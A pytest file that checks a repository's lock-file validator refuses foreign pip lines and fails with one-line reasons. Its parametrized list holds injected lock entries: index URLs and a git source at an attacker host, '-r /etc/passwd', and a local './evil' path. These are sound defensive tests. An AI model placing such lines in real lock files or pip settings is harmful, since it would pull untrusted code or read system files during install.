"""bootstrap's first step, `scripts/lock.py check`: a lock that does not match pyproject.toml,
that pip would make fetch or read something other than hashed pins, or that cannot be read at
all stops the install with a one-line reason (not a traceback)."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from devstack.stack import ROOT

GOOD = (ROOT / "requirements.lock").read_text()
FIRST_PIN = GOOD.splitlines()[3]  # after uv's two header lines and the digest line
HASH = "    --hash=sha256:" + "0" * 64


def _check(tmp_path: Path, lock: str | bytes | None) -> subprocess.CompletedProcess[str]:
    """`lock.py check` in a copy of the repository's root holding ``lock`` as its lock."""
    (tmp_path / "scripts").mkdir(exist_ok=True)
    shutil.copy(ROOT / "scripts" / "lock.py", tmp_path / "scripts" / "lock.py")
    shutil.copy(ROOT / "pyproject.toml", tmp_path / "pyproject.toml")
    target = tmp_path / "requirements.lock"
    if isinstance(lock, str):
        target.write_text(lock)
    elif isinstance(lock, bytes):
        target.write_bytes(lock)
    return subprocess.run(
        [sys.executable, "scripts/lock.py", "check"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_committed_lock_passes(tmp_path: Path) -> None:
    r = _check(tmp_path, GOOD)
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize(
    "hostile",
    [
        "--index-url http://attacker.invalid/simple",
        "--extra-index-url http://attacker.invalid/simple",
        "--find-links /tmp",
        "-r /etc/passwd",
        "-e git+https://attacker.invalid/x.git#egg=x",
        f"x @ https://attacker.invalid/x.whl \\\n{HASH}",
        f"./evil \\\n{HASH}",
        f"{FIRST_PIN[:-2]} --index-url=http://attacker.invalid \\",
    ],
)
def test_a_lock_with_a_line_uv_never_writes_is_refused(tmp_path: Path, hostile: str) -> None:
    # The digest still matches: only the refusal of foreign lines stops this one.
    r = _check(tmp_path, GOOD.replace(FIRST_PIN, f"{hostile}\n{FIRST_PIN}", 1))
    assert r.returncode == 1
    assert "not a pin or a hash" in r.stderr and hostile.splitlines()[0][:40] in r.stderr
    assert "Traceback" not in r.stderr


@pytest.mark.parametrize(
    ("lock", "says"),
    [
        (None, "cannot read"),
        (b"\xff\xfe" + GOOD.encode(), "cannot read"),
        (GOOD.replace("# pyproject-deps-sha256: ", "# "), "no digest line"),
        (GOOD.replace("# pyproject-deps-sha256: ", "# pyproject-deps-sha256: 0"), "changed"),
    ],
)
def test_a_missing_unreadable_or_stale_lock_fails_clearly(
    tmp_path: Path, lock: str | bytes | None, says: str
) -> None:
    r = _check(tmp_path, lock)
    assert r.returncode == 1
    assert says in r.stderr and "make lock" in r.stderr
    assert "Traceback" not in r.stderr
